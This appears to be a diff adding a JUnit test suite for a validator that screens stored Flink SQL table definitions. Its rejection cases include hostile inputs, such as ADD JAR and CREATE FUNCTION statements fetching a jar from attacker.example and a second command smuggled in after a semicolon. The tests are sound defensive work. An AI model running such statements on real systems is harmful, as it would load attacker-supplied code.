@@ -1,0 +1,132 @@
+package io.mtables.planning;
+
+import static org.assertj.core.api.Assertions.assertThatCode;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import io.mtables.schemas.catalog.TableDefinition;
+import java.time.Instant;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** What a definition read from mt.table.definitions may carry before its SQL reaches Flink. */
+class StoredStatementsTest {
+
+    private static final String ORDERS = "default_catalog.shop.orders";
+    private static final String DECLARED =
+            "CREATE TABLE shop.orders (id BIGINT, ds STRING) WITH ('connector' = 'datagen')";
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                DECLARED,
+                "CREATE TABLE IF NOT EXISTS `shop`.`orders` (id BIGINT) WITH ('connector' ="
+                        + " 'datagen')",
+                "CREATE TABLE orders (id BIGINT, PRIMARY KEY (id) NOT ENFORCED) WITH"
+                        + " ('connector' = 'upsert-kafka', 'topic' = 't')"
+            })
+    void whatDdlServiceWritesPasses(String statement) {
+        assertThatCode(() -> StoredStatements.check(source(statement))).doesNotThrowAnyException();
+        assertThatCode(() -> StoredStatements.check(materialized(statement, "SELECT id FROM o")))
+                .doesNotThrowAnyException();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "ADD JAR 'http://attacker.example/evil.jar'",
+                "SET 'pipeline.jars' = 'file:///tmp/evil.jar'",
+                "CREATE FUNCTION shop.f AS 'Evil' USING JAR 'http://attacker.example/evil.jar'",
+                DECLARED + "; ADD JAR 'http://attacker.example/evil.jar'",
+                "CREATE TEMPORARY TABLE shop.orders (id BIGINT) WITH ('connector' = 'datagen')",
+                "CREATE TABLE shop.payments (id BIGINT) WITH ('connector' = 'datagen')",
+                "CREATE TABLE shop.orders WITH ('connector' = 'datagen') AS SELECT 1 AS id",
+                "CREATE TABLE shop.orders (id BIGINT) WITH ('connector' = 'datagen') LIKE x",
+                "DROP TABLE shop.orders",
+                "not sql at all"
+            })
+    void anythingElseIsRefusedInTheDefinitionAndInAReadersSources(String statement) {
+        assertThatThrownBy(() -> StoredStatements.check(source(statement)))
+                .isInstanceOf(StoredStatements.ForgedStatementException.class)
+                .hasMessageContaining(ORDERS);
+        assertThatThrownBy(() -> StoredStatements.check(materialized(statement, "SELECT 1")))
+                .isInstanceOf(StoredStatements.ForgedStatementException.class)
+                .hasMessageContaining("not run");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "DROP TABLE shop.orders",
+                "SELECT 1; ADD JAR 'http://attacker.example/evil.jar'",
+                "INSERT INTO shop.orders SELECT 1, 'x'"
+            })
+    void aQueryThatIsNotOneQueryIsRefused(String query) {
+        assertThatThrownBy(() -> StoredStatements.check(materialized(DECLARED, query)))
+                .isInstanceOf(StoredStatements.ForgedStatementException.class);
+    }
+
+    @Test
+    void queriesWithFlinksOwnSyntaxPass() {
+        for (String query :
+                List.of(
+                        "WITH x AS (SELECT id FROM shop.orders) SELECT * FROM x ORDER BY id",
+                        "SELECT window_start, count(*) FROM TABLE(TUMBLE(TABLE shop.orders,"
+                                + " DESCRIPTOR(ts), INTERVAL '1' MINUTE)) GROUP BY window_start",
+                        "SELECT * FROM shop.orders /*+ OPTIONS('scan.snapshot-id' = '3') */")) {
+            assertThatCode(() -> StoredStatements.check(materialized(DECLARED, query)))
+                    .as(query)
+                    .doesNotThrowAnyException();
+        }
+    }
+
+    private static TableDefinition source(String statement) {
+        return definition(ORDERS, TableDefinition.Kind.SOURCE_TABLE, statement, null, List.of());
+    }
+
+    private static TableDefinition materialized(String sourceStatement, String query) {
+        return definition(
+                "default_catalog.shop.mt",
+                TableDefinition.Kind.MATERIALIZED_TABLE,
+                "CREATE MATERIALIZED TABLE shop.mt AS " + query,
+                new TableDefinition.Query(query, query),
+                List.of(
+                        new TableDefinition.SourceTable(
+                                ORDERS,
+                                TableDefinition.Kind.SOURCE_TABLE,
+                                1,
+                                sourceStatement,
+                                List.of(),
+                                List.of())));
+    }
+
+    private static TableDefinition definition(
+            String table,
+            TableDefinition.Kind kind,
+            String statement,
+            TableDefinition.Query query,
+            List<TableDefinition.SourceTable> sources) {
+        return new TableDefinition(
+                table,
+                1,
+                kind,
+                statement,
+                List.of(new TableDefinition.Column("id", "BIGINT", false)),
+                List.of(),
+                List.of(),
+                null,
+                Map.of(),
+                null,
+                null,
+                null,
+                query,
+                sources,
+                TableDefinition.Status.ACTIVE,
+                Map.of(),
+                Instant.EPOCH,
+                Instant.EPOCH,
+                null);
+    }
+}
